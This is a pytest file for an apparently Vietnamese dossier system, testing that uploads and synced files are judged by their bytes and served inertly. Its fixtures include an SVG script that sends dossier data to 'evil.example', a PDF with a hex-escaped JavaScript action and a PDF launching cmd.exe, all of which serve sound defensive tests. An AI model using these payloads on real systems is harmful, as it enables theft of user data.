"""Files are judged by their bytes wherever they enter and served by what they are
(docs/security.md, "Files"): uploads at the ward, the console and the portal, files received
by sync at the hub and at a ward, and every place a file is served.

The hub is its Flask app in-process, reached through the real blob protocol
(``AppTransport``); wards are real enrolled nodes (``make_ward`` of test_attachments.py).
"""

from __future__ import annotations

import hashlib
import io
import os
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from central_hub.store import open_store as open_hub
from sync import (
    FILE_KINDS,
    PDF,
    BlobStore,
    UnsupportedFile,
    check_bytes,
    download_name,
    new_id,
    read_status,
    sync_blobs,
)
from sync.filetypes import recognise
from tests.hub.portal.test_online_submission import _form
from tests.hub.protocol.test_attachments import (
    UNIT,
    Ward,
    _dossier,
    _hub_blobs,
)
from tests.support import hub_token, scan_pdf
from ward_node.store import capture

SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>fetch('/api/v1/dossiers').then(r => r.text()).then(t => "
    b"navigator.sendBeacon('//evil.example', t))</script></svg>"
)
HTML = b"<!doctype html><script>document.title = 'owned'</script>"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(200)
PNG = b"\x89PNG\r\n\x1a\n" + bytes(200)
TIFF = b"II*\x00" + bytes(200)
PDF_WITH_SCRIPT = (
    b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n%%EOF\n"
)
# The same action with its name written in hex escapes, as malware does to dodge filters.
PDF_WITH_HIDDEN_SCRIPT = PDF_WITH_SCRIPT.replace(b"/JavaScript", b"/J#61va#53cript").replace(
    b"/JS ", b"/J#53 "
)
WORD = b"PK\x03\x04" + b"[Content_Types].xml" + bytes(100)  # a .docx is a zip
OLD_WORD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200)  # .doc/.xls: OLE with macros


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _upload(ward: Ward, dossier_id: str, data: bytes, name: str, declared: str) -> Any:
    boundary, body = encode_multipart(
        {"file": FileStorage(io.BytesIO(data), name, content_type=declared)}
    )
    return ward.api.post(
        f"/dossiers/{dossier_id}/attachments",
        data=body,
        content_type=f"multipart/form-data; boundary={boundary}",
    )


def _stored_files(folder: Path) -> list[Path]:
    return [p for p in folder.rglob("*") if p.is_file()] if folder.exists() else []


def _assert_inert(resp: Any) -> None:
    """The headers every served file carries, whatever it is."""
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    csp = resp.headers["Content-Security-Policy"]
    assert "sandbox" in csp and "default-src 'none'" in csp and "frame-ancestors 'none'" in csp
    assert resp.headers["Cache-Control"] == "no-store"


def _legacy_attachment(ward: Ward, dossier_id: str, data: bytes, name: str, mime: str) -> str:
    """An attachment as a ward of before this check (or a tampered one) could hold it: the
    bytes in its store, a record claiming ``mime``, written through its write path."""
    sha = BlobStore(ward.data / "blobs").put(data)
    attachment_id = new_id()
    record = {
        "id": attachment_id,
        "unit": UNIT,
        "parent_type": "dossier",
        "parent_id": dossier_id,
        "sha256": sha,
        "name": name,
        "mime": mime,
        "size": len(data),
        "uploaded_by": "officer",
        "uploaded_at": "2026-12-01T08:00:00+07:00",
        "deleted": False,
    }
    capture(ward.conn, ward.session.clock).write(
        "attachment", attachment_id, UNIT, record, actor="officer"
    )
    return sha


# -- recognition ----------------------------------------------------------------------------


@given(st.sampled_from(FILE_KINDS), st.binary(max_size=300))
def test_each_accepted_kind_is_recognised_by_its_signature_whatever_follows(
    kind: Any, tail: bytes
) -> None:
    signature = {
        "application/pdf": b"%PDF-",
        "image/jpeg": b"\xff\xd8\xff",
        "image/png": b"\x89PNG\r\n\x1a\n",
        "image/tiff": b"II*\x00",
    }[kind.mime]
    assert recognise(signature + tail) is kind


@given(st.binary(max_size=400))
def test_bytes_are_accepted_only_with_a_signature_and_never_as_active_content(
    data: bytes,
) -> None:
    try:
        kind = check_bytes(data)
    except UnsupportedFile as exc:
        assert exc.status == 415 and exc.code in ("unsupported_file_type", "active_content")
        return
    assert recognise(data) is kind
    assert kind.mime in ("application/pdf", "image/jpeg", "image/png", "image/tiff")


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (SVG, "unsupported_file_type"),
        (HTML, "unsupported_file_type"),
        (WORD, "unsupported_file_type"),
        (OLD_WORD, "unsupported_file_type"),
        (b"", "unsupported_file_type"),
        (PDF_WITH_SCRIPT, "active_content"),
        (PDF_WITH_HIDDEN_SCRIPT, "active_content"),
        (b"%PDF-1.4\n<< /Type /EmbeddedFile >>", "active_content"),
        (b"%PDF-1.4\n<< /S /Launch /F (cmd.exe) >>", "active_content"),
    ],
    ids=[
        "svg",
        "html",
        "docx",
        "doc",
        "empty",
        "pdf-js",
        "pdf-js-escaped",
        "pdf-embedded",
        "pdf-launch",
    ],
)
def test_what_offices_do_not_use_is_refused_by_its_bytes(data: bytes, code: str) -> None:
    with pytest.raises(UnsupportedFile) as refused:
        check_bytes(data, "giấy tờ.pdf")
    assert refused.value.code == code and refused.value.status == 415
    assert refused.value.message.startswith("Tệp 'giấy tờ.pdf'")


def test_a_scan_whose_image_data_spells_js_is_not_mistaken_for_a_script() -> None:
    # Compressed image data is random: names inside stream data do not count.
    assert check_bytes(scan_pdf(4000, seed=b"/JS /JavaScript ")) is PDF


def test_a_download_keeps_only_a_name_whose_extension_matches_its_bytes() -> None:
    tiff = recognise(TIFF)
    assert download_name("bản quét.tif", tiff) == "bản quét.tif"
    assert download_name("bản quét.TIFF", tiff) == "bản quét.TIFF"
    assert download_name("bản quét.html", tiff) == "bản quét.html.tif"
    assert download_name("x.html", None) == "x.html.bin"
    assert download_name("", None) == "tep.bin"


# -- the ward: upload and serve --------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "name", "declared"),
    [
        (SVG, "so-do.svg", "image/svg+xml"),
        (HTML, "ban-quet.pdf", "application/pdf"),
        (PDF_WITH_SCRIPT, "don.pdf", "application/pdf"),
        (WORD, "to-trinh.docx", "application/vnd.openxmlformats-officedocument"),
    ],
    ids=["svg", "html-as-pdf", "pdf-js", "docx"],
)
def test_the_ward_refuses_a_file_by_its_bytes_and_keeps_nothing(
    make_ward: Any, data: bytes, name: str, declared: str
) -> None:
    ward = make_ward()
    dossier = _dossier(ward)
    resp = _upload(ward, dossier["id"], data, name, declared)
    assert resp.status_code == 415
    error = resp.get_json()["error"]
    assert error["code"] in ("unsupported_file_type", "active_content")
    assert error["message"].startswith(f"Tệp '{name}'")
    assert ward.conn.execute("SELECT count(*) FROM attachment").fetchone()[0] == 0
    assert _stored_files(ward.data / "blobs") == []


def test_the_ward_records_and_serves_what_the_bytes_are_not_what_was_declared(
    make_ward: Any,
) -> None:
    ward = make_ward()
    dossier = _dossier(ward)
    resp = _upload(ward, dossier["id"], JPEG, "anh.html", "text/html")
    assert resp.status_code == 201, resp.get_json()
    assert resp.get_json()["mime"] == "image/jpeg"
    (stored,) = ward.conn.execute("SELECT mime FROM attachment").fetchall()
    assert stored[0] == "image/jpeg"
    with ward.api.get(f"/attachments/{_sha(JPEG)}") as got:
        assert got.status_code == 200 and got.data == JPEG
        assert got.mimetype == "image/jpeg"
        assert got.headers["Content-Disposition"].startswith("inline")
        _assert_inert(got)

    tiff = _upload(ward, dossier["id"], TIFF, "so-do.html", "text/html")
    assert tiff.status_code == 201 and tiff.get_json()["mime"] == "image/tiff"
    with ward.api.get(f"/attachments/{_sha(TIFF)}") as got:
        assert got.mimetype == "image/tiff"  # browsers do not show it: a download
        assert got.headers["Content-Disposition"] == "attachment; filename=so-do.html.tif"
        _assert_inert(got)


def test_a_ward_serves_a_file_of_no_accepted_kind_as_an_inert_download(
    make_ward: Any,
) -> None:
    # What an attachment record says is not trusted: an SVG that reached the store before
    # this check, under a record claiming image/svg+xml, is never shown in the page.
    ward = make_ward()
    dossier = _dossier(ward)
    sha = _legacy_attachment(ward, dossier["id"], SVG, "so-do.svg", "image/svg+xml")
    with ward.api.get(f"/attachments/{sha}") as got:
        assert got.status_code == 200 and got.data == SVG
        assert got.mimetype == "application/octet-stream"
        assert got.headers["Content-Disposition"] == "attachment; filename=so-do.svg.bin"
        _assert_inert(got)


# -- the hub: files received by sync ---------------------------------------------------------


def test_the_hub_refuses_a_wards_active_file_and_the_ward_syncs_on(
    tmp_path: Path, make_ward: Any, hub: FlaskClient
) -> None:
    ward = make_ward()
    dossier = _dossier(ward)
    svg = _legacy_attachment(ward, dossier["id"], SVG, "scan.svg", "image/svg+xml")
    good = _upload(ward, dossier["id"], scan_pdf(3000), "don.pdf", "application/pdf")
    assert good.status_code == 201
    ward.session.run()  # pushes the records; the files: refused one, uploaded the other

    hub_blobs = _hub_blobs(tmp_path)
    assert not hub_blobs.has(svg) and hub_blobs.has(good.get_json()["sha256"])
    assert _stored_files(tmp_path / "hub" / "blobs" / "partial") == []
    conn = open_hub(tmp_path / "hub")
    try:
        (detail,) = conn.execute(
            "SELECT detail FROM sync_events WHERE outcome = 'refused' AND unit = ?", (UNIT,)
        ).fetchone()
    finally:
        conn.close()
    assert detail.startswith("unsupported_file_type: Tệp")
    assert read_status(ward.conn)["state"] == "synced"
    # Sending it again cannot help: the next run neither retries it nor fails.
    sent = len(ward.transport.sent)
    report = sync_blobs(ward.session)
    assert report["refused"] == [] and report["uploaded"] == 0
    assert not [p for p, _ in ward.transport.sent[sent:] if p == "/sync/v1/blobs/upload"]


def test_a_ward_judges_a_file_received_from_the_hub_by_its_bytes(
    tmp_path: Path, make_ward: Any, hub: FlaskClient
) -> None:
    # A PDF with a script that reached the hub before this check (its signature is a PDF's,
    # so the hub still sends it): the receiving ward drops it and keeps syncing.
    owner = make_ward()
    dossier = _dossier(owner)
    sha = _legacy_attachment(owner, dossier["id"], PDF_WITH_SCRIPT, "don.pdf", "application/pdf")
    owner.session.run()
    assert not _hub_blobs(tmp_path).has(sha)  # refused on the way in
    _hub_blobs(tmp_path).put(PDF_WITH_SCRIPT)  # as if held from before
    conn = open_hub(tmp_path / "hub")
    with conn:
        conn.execute("INSERT INTO blob_sources (sha256, unit, at) VALUES (?, ?, '')", (sha, UNIT))
    conn.close()
    owner.blobs.path(sha).unlink()  # the ward lost its copy and fetches it again
    report = sync_blobs(owner.session)
    assert report["refused"] == [sha] and report["downloaded"] == 0
    assert not owner.blobs.has(sha) and owner.blobs.partial_size(sha) == 0


# -- the hub: console and API ----------------------------------------------------------------


def test_a_wards_file_is_served_by_the_hub_as_what_its_bytes_are(
    tmp_path: Path, make_ward: Any, hub: FlaskClient
) -> None:
    ward = make_ward()
    dossier = _dossier(ward)
    sha = _legacy_attachment(ward, dossier["id"], HTML, "scan.pdf", "text/html")
    ward.session.run()
    # Held from before the check: the admin API still never serves it as a page.
    _hub_blobs(tmp_path).put(HTML)
    admin = hub_token(hub, tmp_path / "hub")
    with hub.get(f"/api/v1/attachments/{sha}", headers=admin) as got:
        assert got.status_code == 200 and got.mimetype == "application/octet-stream"
        assert got.headers["Content-Disposition"] == "attachment; filename=scan.pdf.bin"
        _assert_inert(got)


def test_the_console_refuses_a_scan_with_a_script(tmp_path: Path, hub: FlaskClient) -> None:
    admin = hub_token(hub, tmp_path / "hub")
    refused = hub.post(
        "/api/v1/documents",
        headers=admin,
        data={
            "document": '{"doc_type": "Công văn", "summary": "Về việc x", "units": ["19786"]}',
            "attachments": [FileStorage(io.BytesIO(PDF_WITH_SCRIPT), "cv.pdf", "application/pdf")],
        },
        content_type="multipart/form-data",
    )
    assert refused.status_code == 415
    assert refused.get_json()["error"]["code"] == "active_content"
    assert _stored_files(tmp_path / "hub" / "blobs") == []


# -- the portal ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "name"), [(SVG, "cccd.svg"), (HTML, "cccd.pdf"), (PDF_WITH_SCRIPT, "cccd.pdf")]
)
def test_the_portal_refuses_a_scan_by_its_bytes(
    tmp_path: Path, hub: FlaskClient, data: bytes, name: str
) -> None:
    resp = hub.post(
        "/nop-ho-so",
        data=_form(tmp_path, scans=(io.BytesIO(data), name)),
        content_type="multipart/form-data",
    )
    assert resp.status_code == 415
    assert f"Tệp &#39;{name}&#39;" in resp.text
    conn = open_hub(tmp_path / "hub")
    try:
        assert conn.execute("SELECT count(*) FROM dossier").fetchone()[0] == 0
    finally:
        conn.close()
    assert _stored_files(tmp_path / "hub" / "blobs") == []


def test_the_portal_records_a_scan_as_what_its_bytes_are(tmp_path: Path, hub: FlaskClient) -> None:
    resp = hub.post(
        "/nop-ho-so",
        data=_form(tmp_path, scans=(io.BytesIO(PNG), "cccd.exe")),
        content_type="multipart/form-data",
    )
    assert resp.status_code == 303
    conn = open_hub(tmp_path / "hub")
    try:
        assert [tuple(r) for r in conn.execute("SELECT mime, sha256 FROM attachment")] == [
            ("image/png", _sha(PNG))
        ]
    finally:
        conn.close()


def test_random_bytes_never_pass_as_a_scan() -> None:
    for _ in range(50):
        with pytest.raises(UnsupportedFile):
            check_bytes(b"\x00" + os.urandom(64))
